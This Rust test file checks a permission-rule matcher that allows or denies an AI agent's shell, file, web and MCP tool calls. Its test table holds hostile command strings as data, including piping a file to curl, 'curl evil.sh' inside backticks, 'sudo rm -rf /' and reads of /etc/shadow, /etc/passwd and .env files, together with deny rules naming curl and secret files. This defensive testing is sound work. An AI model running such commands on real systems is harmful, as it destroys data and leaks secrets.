//! The matcher on a table of requests, rule precedence, suggestions and rule checks.

use std::path::Path;

use serde_json::{Value, json};
use uuid::Uuid;

use super::*;
use crate::policy::{PermissionRule, RuleEffect, RuleScope};

pub(super) const WD: &str = "/work/proj";
const NOW: i64 = 1_000_000;

fn rule(scope: RuleScope, tool: &str, pattern: &str, effect: RuleEffect) -> PermissionRule {
    PermissionRule {
        id: Uuid::new_v4(),
        scope,
        project_id: None,
        project: None,
        task_id: None,
        task_reference: None,
        session_id: None,
        tool: tool.into(),
        pattern: pattern.into(),
        effect,
        created_by: "admin".into(),
        created_at: 0,
        expires_at: None,
        note: None,
    }
}

pub(super) fn allow(tool: &str, pattern: &str) -> PermissionRule {
    rule(RuleScope::Global, tool, pattern, RuleEffect::Allow)
}

fn deny(tool: &str, pattern: &str) -> PermissionRule {
    rule(RuleScope::Global, tool, pattern, RuleEffect::Deny)
}

pub(super) fn request<'a>(tool: &'a str, input: &'a Value, wd: Option<&'a Path>) -> Request<'a> {
    Request {
        tool,
        input,
        working_dir: wd,
        project_id: None,
        task_id: None,
        session_id: None,
        now: NOW,
    }
}

pub(super) fn bash(command: &str) -> Value {
    json!({ "command": command })
}

pub(super) fn file(path: &str) -> Value {
    json!({ "file_path": path })
}

/// The rules every case of the table is decided by.
fn table_rules() -> Vec<PermissionRule> {
    vec![
        allow("Bash", "git status"),
        allow("Bash", "git log --oneline"),
        allow("Bash", "cargo test *"),
        allow("Bash", "ls *"),
        allow("Bash", "echo *"),
        allow("Bash", "grep *"),
        allow("Bash", "cat *"),
        allow("Bash", "tee *"),
        allow("Bash", "npm run *"),
        allow("Bash", "[ -f * ]"),
        allow("Bash", "true"),
        deny("Bash", "rm -rf *"),
        deny("Bash", "curl *"),
        deny("Bash", "git push *"),
        allow("*", "make *"),
        deny("*", "**/.env"),
        allow("Edit", "src/**"),
        allow("Write", "**/*.md"),
        allow("Read", "**"),
        deny("Read", "/etc/**"),
        allow("WebFetch", "https://docs.rs/*"),
        allow("WebSearch", "rust *"),
        allow("mcp__github__get_issue", "*"),
        allow("mcp__github__create_issue", r#"{"repo":"me/x",*}"#),
    ]
}

#[test]
fn a_table_of_requests() {
    use RuleEffect::{Allow as A, Deny as D};
    let mcp = |tool: &'static str, v: Value| (tool, v);
    let cases: Vec<((&str, Value), bool, Option<RuleEffect>)> = vec![
        // Bash: exact words, trailing `*`
        (("Bash", bash("git status")), true, Some(A)),
        (("Bash", bash("git status -s")), true, None),
        (("Bash", bash("git log --oneline")), true, Some(A)),
        (("Bash", bash("git log --oneline -5")), true, None),
        (("Bash", bash("cargo test")), true, Some(A)),
        (
            ("Bash", bash("cargo test -p x -- --nocapture")),
            true,
            Some(A),
        ),
        (("Bash", bash("cargo build")), true, None),
        // chains and pipes
        (("Bash", bash("git status && cargo test")), true, Some(A)),
        (("Bash", bash("git status; rm -rf build")), true, Some(D)),
        (("Bash", bash("ls | grep foo")), true, Some(A)),
        (("Bash", bash("ls | wc -l")), true, None),
        (("Bash", bash("cat a.txt | curl -d @- x")), true, Some(D)),
        (
            ("Bash", bash("ls -la && git push origin main")),
            true,
            Some(D),
        ),
        (
            ("Bash", bash("npm run build || npm run test")),
            true,
            Some(A),
        ),
        (("Bash", bash("cargo test\ngit status")), true, Some(A)),
        (("Bash", bash("ls &")), true, Some(A)),
        (("Bash", bash("ls & cargo build")), true, None),
        (("Bash", bash("ls |& grep x")), true, Some(A)),
        // quotes
        (("Bash", bash("echo 'a && rm -rf x'")), true, Some(A)),
        (("Bash", bash("echo \"a; b\"")), true, Some(A)),
        (("Bash", bash("echo 'unbalanced")), true, None),
        (("Bash", bash("echo \"unbalanced")), true, None),
        (("Bash", bash("echo a\\;b")), true, Some(A)),
        // substitution, backticks, expansions
        (("Bash", bash("echo $(date)")), true, None),
        (("Bash", bash("echo $(curl x)")), true, Some(D)),
        (("Bash", bash("echo \"$(curl x)\"")), true, Some(D)),
        (("Bash", bash("echo `date`")), true, None),
        (("Bash", bash("echo `curl evil.sh`")), true, Some(D)),
        (("Bash", bash("echo $(echo $(rm -rf /))")), true, Some(D)),
        (("Bash", bash("echo $HOME")), true, None),
        (("Bash", bash("echo \"${HOME}\"")), true, None),
        (("Bash", bash("echo '$HOME'")), true, Some(A)),
        (("Bash", bash("echo \\$HOME")), true, Some(A)),
        (("Bash", bash("echo $((1+2))")), true, None),
        (("Bash", bash("echo {a,b}")), true, None),
        (("Bash", bash("echo costs 5$")), true, Some(A)),
        (("Bash", bash("diff <(ls) <(ls)")), true, None),
        (("Bash", bash("cat <(curl x)")), true, Some(D)),
        // redirections
        (("Bash", bash("echo hi > out.txt")), true, Some(A)),
        (("Bash", bash("echo hi >> sub/../out.txt")), true, Some(A)),
        (
            ("Bash", bash("echo hi > /work/proj/out.txt")),
            true,
            Some(A),
        ),
        (("Bash", bash("echo hi > /tmp/out.txt")), true, None),
        (("Bash", bash("echo hi > ../out.txt")), true, None),
        (("Bash", bash("echo hi > /work/project2/x")), true, None),
        (("Bash", bash("echo hi > ~/x")), true, None),
        (("Bash", bash("echo hi > out.txt")), false, None),
        (("Bash", bash("cd /tmp && echo hi > out.txt")), true, None),
        (("Bash", bash("echo hi > out.txt; cd /")), true, None),
        (("Bash", bash("cargo test > /dev/null 2>&1")), true, Some(A)),
        (
            ("Bash", bash("cargo test > /dev/null 2>&1")),
            false,
            Some(A),
        ),
        (
            ("Bash", bash("cargo test 2>&1 | tee log.txt")),
            true,
            Some(A),
        ),
        (("Bash", bash("echo x >&2")), true, Some(A)),
        (("Bash", bash("cat < /etc/shadow")), true, None),
        (("Bash", bash("cat <<EOF\nhi\nEOF")), true, None),
        (("Bash", bash("cat <<EOF\nrm -rf /\nEOF\nls")), true, None),
        (("Bash", bash("cat <<< hi")), true, None),
        // sudo and wrappers
        (("Bash", bash("sudo ls")), true, None),
        (("Bash", bash("env sudo ls")), true, None),
        (("Bash", bash("env FOO=1 sudo ls")), true, None),
        (("Bash", bash("nohup /usr/bin/sudo ls")), true, None),
        (("Bash", bash("sudo rm -rf /")), true, Some(D)),
        (("Bash", bash("sudo -u root rm -rf /")), true, Some(D)),
        (("Bash", bash("FOO=1 rm -rf x")), true, Some(D)),
        (("Bash", bash("/bin/rm -rf x")), true, Some(D)),
        (("Bash", bash("/bin/ls")), true, None),
        // structures
        (("Bash", bash("if true; then ls; fi")), true, None),
        (("Bash", bash("if rm -rf x; then ls; fi")), true, Some(D)),
        (("Bash", bash("for f in a b; do echo $f; done")), true, None),
        (("Bash", bash("(ls)")), true, None),
        (("Bash", bash("(curl x)")), true, Some(D)),
        (("Bash", bash("{ ls; }")), true, None),
        (("Bash", bash("f() { ls; }")), true, None),
        // globs in words: `[` stays literal
        (("Bash", bash("[ -f Cargo.toml ]")), true, Some(A)),
        (("Bash", bash("[ -d x ]")), true, None),
        (("Bash", bash("")), true, None),
        (("Bash", bash("# just a comment")), true, None),
        // the `*` tool applies by kind
        (("Bash", bash("make all")), true, Some(A)),
        (("Edit", file("make x")), true, Some(A)),
        // file tools
        (("Edit", file("src/main.rs")), true, Some(A)),
        (("Edit", file("/work/proj/src/a/b.rs")), true, Some(A)),
        (
            ("Edit", file("/work/proj/src/../../other/src/x.rs")),
            true,
            None,
        ),
        (("Edit", file("/work/other/src/x.rs")), true, None),
        (("Edit", file("tests/x.rs")), true, None),
        (("Edit", file("src/main.rs")), false, None),
        (("Edit", file("/work/proj/src/main.rs")), false, None),
        (("Write", file("docs/a/b.md")), true, Some(A)),
        (("Write", file("src/x.rs")), true, None),
        (("Read", file("/etc/passwd")), true, Some(D)),
        (("Read", file("/etc/passwd")), false, Some(D)),
        (("Read", file("../../../etc/hosts")), true, Some(D)),
        (("Read", file("/work/proj/.env")), true, Some(D)),
        (("Read", file("/work/proj/config/.env")), true, Some(D)),
        (("Read", file("/work/proj/README")), true, Some(A)),
        (("Read", file("/home/x/notes")), true, None),
        (("Read", json!({"path": "x"})), true, None),
        (
            ("NotebookEdit", json!({"notebook_path": "src/a.ipynb"})),
            true,
            None,
        ),
        // web
        (
            ("WebFetch", json!({"url": "https://docs.rs/serde"})),
            true,
            Some(A),
        ),
        (
            (
                "WebFetch",
                json!({"url": "https://evil.com/?u=https://docs.rs/"}),
            ),
            true,
            None,
        ),
        (
            ("WebSearch", json!({"query": "rust lifetimes"})),
            true,
            Some(A),
        ),
        (("WebSearch", json!({"query": "python"})), true, None),
        // MCP tools: a glob on the compact JSON input
        (
            mcp("mcp__github__get_issue", json!({"n": 1})),
            true,
            Some(A),
        ),
        (
            mcp(
                "mcp__github__create_issue",
                json!({"repo": "me/x", "title": "t"}),
            ),
            true,
            Some(A),
        ),
        (
            mcp(
                "mcp__github__create_issue",
                json!({"repo": "you/y", "title": "t"}),
            ),
            true,
            None,
        ),
        (
            mcp("mcp__github__delete_repo", json!({"repo": "me/x"})),
            true,
            None,
        ),
        (
            mcp("mcp__github__delete_repo", json!({"f": ".env", "make": 1})),
            true,
            None,
        ),
    ];
    assert!(cases.len() >= 40);
    let set = RuleSet::new(table_rules());
    let wd = Path::new(WD);
    let mut wrong = Vec::new();
    for ((tool, input), with_wd, want) in &cases {
        let req = request(tool, input, with_wd.then_some(wd));
        let v = set.decide(&req);
        if v.effect != *want {
            wrong.push(format!(
                "{tool} {input} (wd: {with_wd}): {:?}, want {want:?}: {}",
                v.effect, v.reason
            ));
        }
        match v.effect {
            Some(_) => assert!(v.rule.is_some(), "{input}: a decision names its rule"),
            None => assert!(v.rule.is_none(), "{input}: no rule decides"),
        }
    }
    assert!(wrong.is_empty(), "wrong verdicts:\n{}", wrong.join("\n"));
}

fn decide_with(rules: Vec<PermissionRule>, req: &Request<'_>) -> Verdict {
    RuleSet::new(rules).decide(req)
}

#[test]
fn reasons_name_the_rule_or_the_obstacle() {
    let r = allow("Bash", "cargo test *");
    let id8 = r.id.simple().to_string()[..8].to_string();
    let set = RuleSet::new(vec![r.clone(), deny("Bash", "git push *")]);
    let input = bash("cargo test -p x");
    let v = set.decide(&request("Bash", &input, Some(Path::new(WD))));
    assert_eq!(
        v.reason,
        format!("allowed by rule {id8}: allow Bash \"cargo test *\" (every project)")
    );
    assert_eq!(v.rule.as_ref().map(|r| r.id), Some(r.id));
    assert_eq!(v.rule_ids(), vec![r.id]);

    let input = bash("rm -rf build");
    let v = set.decide(&request("Bash", &input, None));
    assert_eq!(v.reason, "no rule matches \"rm -rf build\"");

    let input = bash("$(curl x)");
    let v = set.decide(&request("Bash", &input, None));
    assert_eq!(
        v.reason,
        "\"$(curl x)\": command substitution is never allowed by a rule"
    );
    assert_eq!(v.parts.len(), 1);
    assert_eq!(
        v.parts[0].why,
        "command substitution is never allowed by a rule"
    );

    let input = bash("cargo test && git push origin main");
    let v = set.decide(&request("Bash", &input, None));
    assert_eq!(v.effect, Some(RuleEffect::Deny));
    assert!(v.reason.starts_with("denied by rule "), "{}", v.reason);
    assert!(
        v.reason.ends_with("on \"git push origin main\""),
        "{}",
        v.reason
    );
    assert_eq!(v.parts.len(), 2);
    assert_eq!(v.parts[0].effect, Some(RuleEffect::Allow));
    assert_eq!(v.parts[1].effect, Some(RuleEffect::Deny));

    let input = bash("echo \x1b[8mhidden");
    let v = set.decide(&request("Bash", &input, None));
    assert!(!v.reason.contains('\x1b'), "{}", v.reason);
}

#[test]
fn a_chain_names_every_rule_it_used() {
    let a = allow("Bash", "git status");
    let b = allow("Bash", "cargo test *");
    let input = bash("git status && cargo test && git status");
    let v = decide_with(vec![a.clone(), b.clone()], &request("Bash", &input, None));
    assert_eq!(v.effect, Some(RuleEffect::Allow));
    assert_eq!(v.rule.map(|r| r.id), Some(a.id));
    assert!(v.reason.starts_with("allowed by rules "), "{}", v.reason);
    let mut ids = v.parts.iter().filter_map(|p| p.rule_id).collect::<Vec<_>>();
    ids.dedup();
    assert_eq!(ids, vec![a.id, b.id, a.id]);
}

#[test]
fn deny_wins_across_scopes() {
    let session = Uuid::new_v4();
    let mut s_allow = rule(RuleScope::Session, "Bash", "git push *", RuleEffect::Allow);
    s_allow.session_id = Some(session);
    let g_deny = deny("Bash", "git push *");
    let input = bash("git push origin main");
    let mut req = request("Bash", &input, None);
    req.session_id = Some(session);
    let v = decide_with(vec![s_allow.clone(), g_deny.clone()], &req);
    assert_eq!(v.effect, Some(RuleEffect::Deny));
    assert_eq!(v.rule.map(|r| r.id), Some(g_deny.id));
    // Without the deny, the session rule allows it.
    let v = decide_with(vec![s_allow.clone()], &req);
    assert_eq!(v.effect, Some(RuleEffect::Allow));
}

#[test]
fn the_narrowest_scope_then_the_longest_pattern_names_the_rule() {
    let (project, task, session) = (Uuid::new_v4(), Uuid::new_v4(), Uuid::new_v4());
    let global_long = allow("Bash", "cargo test -p *");
    let global_short = allow("Bash", "cargo *");
    let mut proj = rule(RuleScope::Project, "Bash", "cargo *", RuleEffect::Allow);
    proj.project_id = Some(project);
    let mut tsk = rule(RuleScope::Task, "Bash", "cargo *", RuleEffect::Allow);
    tsk.project_id = Some(project);
    tsk.task_id = Some(task);
    let mut sess = rule(RuleScope::Session, "Bash", "cargo *", RuleEffect::Allow);
    sess.project_id = Some(project);
    sess.session_id = Some(session);
    let input = bash("cargo test -p x");
    let mut req = request("Bash", &input, None);
    let winner = |rules: Vec<&PermissionRule>, req: &Request<'_>| {
        decide_with(rules.into_iter().cloned().collect(), req)
            .rule
            .map(|r| r.id)
    };
    let all = vec![&global_short, &global_long, &proj, &tsk, &sess];
    assert_eq!(
        winner(all.clone(), &req),
        Some(global_long.id),
        "longest pattern"
    );
    req.project_id = Some(project);
    assert_eq!(
        winner(all.clone(), &req),
        Some(proj.id),
        "project beats global"
    );
    req.task_id = Some(task);
    assert_eq!(
        winner(all.clone(), &req),
        Some(tsk.id),
        "task beats project"
    );
    req.session_id = Some(session);
    assert_eq!(
        winner(all.clone(), &req),
        Some(sess.id),
        "session beats task"
    );
}

#[test]
fn a_rule_applies_only_in_its_scope() {
    let (p1, p2, t1, t2, s1, s2) = (
        Uuid::new_v4(),
        Uuid::new_v4(),
        Uuid::new_v4(),
        Uuid::new_v4(),
        Uuid::new_v4(),
        Uuid::new_v4(),
    );
    let mut proj = rule(RuleScope::Project, "Bash", "ls", RuleEffect::Allow);
    proj.project_id = Some(p1);
    let mut tsk = rule(RuleScope::Task, "Bash", "pwd", RuleEffect::Allow);
    tsk.task_id = Some(t1);
    let mut sess = rule(RuleScope::Session, "Bash", "whoami", RuleEffect::Allow);
    sess.session_id = Some(s1);
    let set = RuleSet::new(vec![proj, tsk, sess]);
    let check = |cmd: &str, p: Option<Uuid>, t: Option<Uuid>, s: Option<Uuid>| {
        let input = bash(cmd);
        let mut req = request("Bash", &input, None);
        (req.project_id, req.task_id, req.session_id) = (p, t, s);
        set.decide(&req).effect
    };
    let a = Some(RuleEffect::Allow);
    assert_eq!(check("ls", Some(p1), None, None), a);
    assert_eq!(check("ls", Some(p2), None, None), None);
    assert_eq!(check("ls", None, None, None), None);
    assert_eq!(check("pwd", Some(p1), Some(t1), None), a);
    assert_eq!(check("pwd", Some(p1), Some(t2), None), None, "another task");
    assert_eq!(check("pwd", Some(p1), None, None), None);
    assert_eq!(check("whoami", None, None, Some(s1)), a);
    assert_eq!(check("whoami", None, Some(t1), Some(s2)), None);
}

#[test]
fn expired_rules_decide_nothing() {
    let mut old_deny = deny("Bash", "ls *");
    old_deny.expires_at = Some(NOW);
    let mut old_allow = allow("Bash", "pwd");
    old_allow.expires_at = Some(NOW - 1);
    let mut live_allow = allow("Bash", "ls *");
    live_allow.expires_at = Some(NOW + 1);
    let set = RuleSet::new(vec![old_deny, old_allow, live_allow.clone()]);
    let input = bash("ls -la");
    let v = set.decide(&request("Bash", &input, None));
    assert_eq!(v.effect, Some(RuleEffect::Allow));
    assert_eq!(v.rule.map(|r| r.id), Some(live_allow.id));
    let input = bash("pwd");
    assert_eq!(set.decide(&request("Bash", &input, None)).effect, None);
}

#[test]
fn file_deny_by_relative_glob_and_allow_precedence() {
    let wd = Path::new(WD);
    let rules = vec![allow("Edit", "**"), deny("Edit", "secrets/**")];
    let input = file("secrets/key.pem");
    let v = decide_with(rules.clone(), &request("Edit", &input, Some(wd)));
    assert_eq!(v.effect, Some(RuleEffect::Deny));
    let input = file("src/../secrets/key.pem");
    let v = decide_with(rules.clone(), &request("Edit", &input, Some(wd)));
    assert_eq!(v.effect, Some(RuleEffect::Deny));
    let input = file("src/lib.rs");
    let v = decide_with(rules, &request("Edit", &input, Some(wd)));
    assert_eq!(v.effect, Some(RuleEffect::Allow));
    assert_eq!(v.parts[0].part, "src/lib.rs");
}

#[test]
fn the_index_finds_glob_first_words_and_tool_star_rules() {
    let rules = vec![allow("Bash", "carg? build"), allow("*", "npm ci")];
    let set = RuleSet::new(rules);
    for cmd in ["cargo build", "npm ci"] {
        let input = bash(cmd);
        assert_eq!(
            set.decide(&request("Bash", &input, None)).effect,
            Some(RuleEffect::Allow),
            "{cmd}"
        );
    }
    assert_eq!(set.len(), 2);
    assert!(!set.is_empty());
    assert!(RuleSet::new(Vec::new()).is_empty());
}
